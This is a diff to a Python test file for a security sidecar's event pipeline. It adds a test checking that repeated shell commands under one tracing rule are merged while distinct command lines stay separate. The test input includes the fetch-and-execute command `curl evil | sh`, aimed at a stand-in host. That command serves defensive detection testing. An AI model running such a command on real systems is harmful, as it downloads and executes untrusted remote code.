@@ -10,7 +10,7 @@ from dataclasses import replace
 
 from sidecar.events import RuntimeEvent
 from sidecar.pipeline import Pipeline
-from sidecar.policy import Performance, Policy
+from sidecar.policy_model import Performance, Policy
 
 
 def make_policy(rate: float = 1.0, size: int = 100, timeout: float = 0.2) -> Policy:
@@ -190,3 +190,28 @@ def test_submit_after_close_is_counted() -> None:
     pipe.close()
     pipe.submit(replace(event(), action="block"))
     assert pipe.stats()["dropped"] == 1
+
+
+def test_two_command_lines_of_one_rule_are_two_events() -> None:
+    """The issue's case: `sh -c 'id'` then `sh -c 'curl evil | sh'` under one rule were one
+    event that kept only the first command line. The real engine, then the pipeline."""
+    from sidecar.engine import Engine
+    from sidecar.events import KIND_EXEC, SyscallEvent
+    from sidecar.policy import parse_policy_text
+
+    text = (
+        "apiVersion: security.qualys.com/v1\nkind: TracingPolicy\nmetadata: {name: t}\n"
+        "spec:\n  processExecution:\n    trackedExecutables:\n      - {name: sh}\n"
+    )
+    from sidecar.policy import merge
+
+    engine = Engine(merge(parse_policy_text(text)))
+    sink = Collect()
+    pipe = Pipeline(make_policy(), [sink])
+    for argv in [("sh", "-c", "id")] * 3 + [("sh", "-c", "curl evil | sh")] * 2:
+        call = SyscallEvent(1.0, 7, 7, 1, "/bin/sh", "execve", KIND_EXEC, path="/bin/sh", argv=argv)
+        for found in engine.evaluate(call).events:
+            pipe.submit(found)
+    pipe.close()
+    assert sorted(e.count for e in sink.events) == [2, 3]  # repeats merged, lines kept apart
+    assert all(e.args is None for e in sink.events)  # told apart without capturing them
